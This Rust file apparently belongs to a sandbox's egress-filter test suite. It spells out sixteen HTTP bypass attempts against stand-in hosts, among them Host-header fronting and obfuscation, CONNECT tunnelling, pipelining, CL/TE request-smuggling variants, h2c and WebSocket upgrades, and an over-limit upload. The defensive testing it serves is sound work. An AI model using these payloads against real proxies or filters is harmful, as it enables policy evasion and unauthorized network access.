//! HTTP: one host in one place and another in the next.

use super::super::files::any;
use super::BASE;
use super::client::{connect, exchange, say, steal};
use crate::attack::{Attack, Attempt, Event, Failed, Trace};
use crate::scene::{holds_canary, put};

const REFUSED: Trace = Trace::Event(&[Event("network", "connect", "allowed.example:80")]);

/// A request within another one's body, for those who find the body's end elsewhere.
const INNER: &str = "GET / HTTP/1.1\r\nHost: hidden.example\r\n\r\n";

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "fronting",
        techniques: &[49],
        about: "Name another host in the Host header than the one that was connected to.",
        attempt: |_| say(b"GET / HTTP/1.1\r\nHost: hidden.example\r\n\r\n", 1),
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "host-header-with-odd-bytes",
        techniques: &[48, 49],
        about: "Put NUL, spaces, user information, brackets or escapes between the allowed and another host's name.",
        attempt: |_| {
            any([
                host("allowed.example\0.hidden.example"),
                host("allowed.example@hidden.example"),
                host("hidden.example\0allowed.example"),
                host("allowed.example hidden.example"),
                host("hidden.example."),
                host("HIDDEN.example:80"),
                host("hidden%2eexample"),
                host("[hidden.example]"),
            ])
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "two-host-headers",
        techniques: &[49],
        about: "Send two Host headers, in either order and spelt oddly.",
        attempt: |_| {
            any([
                say(b"GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: hidden.example\r\n\r\n", 1),
                say(b"GET / HTTP/1.1\r\nHost: hidden.example\r\nHost: allowed.example\r\n\r\n", 1),
                say(b"GET / HTTP/1.1\r\nHost: allowed.example\r\nhost : hidden.example\r\n\r\n", 1),
                say(b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\thidden.example\r\n\r\n", 1),
                say(b"GET / HTTP/1.1\nHost: allowed.example\nHost: hidden.example\n\n", 1),
                say(b"GET / HTTP/1.1\r\nHost: allowed.example\r\nX: y\rHost: hidden.example\r\n\r\n", 1),
                say(b"GET / HTTP/1.1\rHost: hidden.example\r\nHost: allowed.example\r\n\r\n", 1),
                say(b"\rGET / HTTP/1.1\r\nHost: hidden.example\r\n\r\n", 1),
                say(b"GET /\rHost: hidden.example HTTP/1.1\r\nHost: allowed.example\r\n\r\n", 1),
            ])
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "request-behind-a-claimed-origin",
        techniques: &[49, 55],
        about: "Claim to balance load, by the PROXY protocol, and send another host's request behind that.",
        attempt: |_| {
            any([
                say(format!("PROXY TCP4 192.0.2.7 203.0.113.10 1 80\r\n{INNER}").as_bytes(), 1),
                say(format!("\r\n\r\n\0\r\nQUIT\n{INNER}").as_bytes(), 1),
            ])
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "request-with-odd-spaces",
        techniques: &[48, 55],
        about: "Put in front of a request, or between its words, what some readers take for spaces: Python's, for one.",
        attempt: |_| {
            let rest = b"\r\nHost: hidden.example\r\n\r\n";
            let lines: [&[u8]; 9] = [
                b" GET / HTTP/1.1",
                b"\tGET / HTTP/1.1",
                b"\x0bGET / HTTP/1.1",
                b"\x1cGET / HTTP/1.1",
                b"\xa0GET / HTTP/1.1",
                b"GET\x0b/\x0bHTTP/1.1",
                b"GET\x1c/\x1cHTTP/1.1",
                b"GET / \x1fHTTP/1.1",
                b"GET\xa0/\x85HTTP/1.1",
            ];
            any(lines.map(|line| say(&[line, rest].concat(), 1)))
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "absolute-target",
        techniques: &[49],
        about: "Name another host in the request's target than in its Host header.",
        attempt: |_| say(b"GET http://hidden.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n", 1),
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "connect-through-allowed-host",
        techniques: &[49, 56],
        about: "Have an allowed host that is a proxy connect to another one.",
        attempt: |_| say(b"CONNECT hidden.example:443 HTTP/1.1\r\nHost: hidden.example:443\r\n\r\n", 2),
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "request-in-small-pieces",
        techniques: &[49, 55],
        about: "Send a request for another host byte by byte.",
        attempt: |_| {
            let mut peer = connect("allowed.example", 80)?;
            peer.set_nodelay(true)?;
            for byte in INNER.as_bytes() {
                std::io::Write::write_all(&mut peer, &[*byte])?;
                std::thread::sleep(std::time::Duration::from_millis(2));
            }
            holds_canary(&exchange(&mut peer, b"", 1)?)
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "head-that-does-not-fit",
        techniques: &[49, 55],
        about: "Hide the Host header behind more bytes than anyone would inspect.",
        attempt: |_| {
            let padding = format!("X-Padding: {}\r\n", "x".repeat(1_000)).repeat(40);
            say(format!("GET / HTTP/1.1\r\n{padding}Host: hidden.example\r\n\r\n").as_bytes(), 1)
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "redirection",
        techniques: &[54],
        about: "Follow an allowed host's redirection to a denied one.",
        attempt: |_| {
            let mut peer = connect("allowed.example", 80)?;
            let answer = exchange(&mut peer, b"GET /redirect HTTP/1.1\r\nHost: allowed.example\r\n\r\n", 1)?;
            let text = String::from_utf8_lossy(&answer).into_owned();
            let host = text.split_once("Location: http://").and_then(|(_, rest)| rest.split('/').next());
            steal(host.ok_or_else(|| Failed::untried("there was no redirection"))?, 80)
        },
        trace: Trace::Event(&[Event("network", "", "denied.example")]),
        ..BASE
    },
    Attack {
        name: "second-request-on-a-connection",
        techniques: &[56],
        about: "Use an open connection to an allowed host for a request to another one.",
        attempt: |_| {
            let mut peer = connect("allowed.example", 80)?;
            let first = exchange(&mut peer, b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n", 1)?;
            welcomed(&first)?;
            holds_canary(&exchange(&mut peer, INNER.as_bytes(), 1)?)
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "pipelined-request",
        techniques: &[55, 56],
        about: "Send requests to an allowed host and to another one at once.",
        attempt: |_| say(format!("GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n{INNER}").as_bytes(), 2),
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "request-after-body",
        techniques: &[55, 56],
        about: "Send a request to another host after one with a body, by length and in chunks.",
        attempt: |_| {
            any([
                smuggle("Content-Length: 5", "hello"),
                smuggle("Transfer-Encoding: chunked", "5\r\nhello\r\n0\r\n\r\n"),
            ])
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "smuggled-request",
        techniques: &[55],
        about: "Hide a request in what another reader takes for a body: with length and chunks, and in odd spellings.",
        attempt: |_| {
            let length = format!("Content-Length: {}", 5 + INNER.len());
            any([
                smuggle(&format!("{length}\r\nTransfer-Encoding: chunked"), "0\r\n\r\n"),
                smuggle(&format!("{length}\r\nTransfer-Encoding : chunked"), "0\r\n\r\n"),
                smuggle(&format!("{length}\r\nTransfer-Encoding: xchunked"), "0\r\n\r\n"),
                smuggle(&format!("{length}\r\nTransfer-Encoding:\tchunked, identity"), "0\r\n\r\n"),
                smuggle(&format!("{length}\r\nX: y\nTransfer-Encoding: chunked"), "0\r\n\r\n"),
                smuggle(&format!("{length}\r\nContent-Length: 0"), ""),
                smuggle(&format!("Content-Length: +{}\r\n{length}\r\nContent-Length: 0", INNER.len()), ""),
            ])
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "upgrade-to-http2",
        techniques: &[55],
        about: "Upgrade an allowed request to HTTP/2 without TLS, and ask for another host there.",
        attempt: |_| upgrade("h2c", "Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"),
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "upgrade-to-websocket",
        techniques: &[56],
        about: "Upgrade an allowed request to a web socket, and send another host's request in it.",
        attempt: |_| {
            upgrade(
                "websocket",
                "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
            )
        },
        trace: REFUSED,
        ..BASE
    },
    Attack {
        name: "upload-beyond-the-limit",
        techniques: &[59],
        about: "Send more to an allowed host than the policy lets through.",
        prepare: |scene| {
            let rule = "version = 1\n[network]\nlimits = { sent = \"256KiB\" }\n";
            Ok(put(&scene.workspace().join(".stockade.toml"), rule)?)
        },
        attempt: |_| {
            let mut peer = connect("allowed.example", 80)?;
            let head = format!("POST /length HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: {}\r\n\r\n", 4 << 20);
            std::io::Write::write_all(&mut peer, head.as_bytes())?;
            let answer = exchange(&mut peer, &vec![b'x'; 4 << 20], 1)?;
            if String::from_utf8_lossy(&answer).contains("4194304 bytes") {
                Ok(())
            } else {
                Err(Failed::refused("the upload was cut off"))
            }
        },
        trace: Trace::Event(&[Event("network", "", "")]),
        ..BASE
    },
];

/// Asks the allowed host for the front page of another one.
fn host(name: &str) -> Attempt {
    say(format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n").as_bytes(), 1)
}

/// Sends a request with these headers and this body to the allowed host, and another host's request behind it.
fn smuggle(headers: &str, body: &str) -> Attempt {
    say(format!("POST / HTTP/1.1\r\nHost: allowed.example\r\n{headers}\r\n\r\n{body}{INNER}").as_bytes(), 2)
}

/// Upgrades a connection, and speaks another protocol on it.
fn upgrade(protocol: &str, headers: &str) -> Attempt {
    let mut peer = connect("allowed.example", 80)?;
    let request = format!("GET /upgrade HTTP/1.1\r\nHost: allowed.example\r\nUpgrade: {protocol}\r\n{headers}\r\n");
    exchange(&mut peer, request.as_bytes(), 1)?;
    holds_canary(&exchange(&mut peer, &http2(), 9)?)
}

/// The preface, no settings, and a request with its header fields as plain text (RFC 9113, 3.4; RFC 7541, 6.2.2).
fn http2() -> Vec<u8> {
    // `:method: GET`, `:scheme: http` and `:path: /` of the table, and `:authority` with a value.
    let mut fields = vec![0x82, 0x86, 0x84, 0x01, 14];
    fields.extend(b"hidden.example");
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0".to_vec();
    bytes.push(u8::try_from(fields.len()).unwrap_or_default());
    bytes.extend([1, 5, 0, 0, 0, 1]);
    bytes.extend(fields);
    bytes
}

fn welcomed(answer: &[u8]) -> Attempt {
    let there = String::from_utf8_lossy(answer).contains("welcome");
    if there { Ok(()) } else { Err(Failed::untried("the allowed host did not answer at first")) }
}
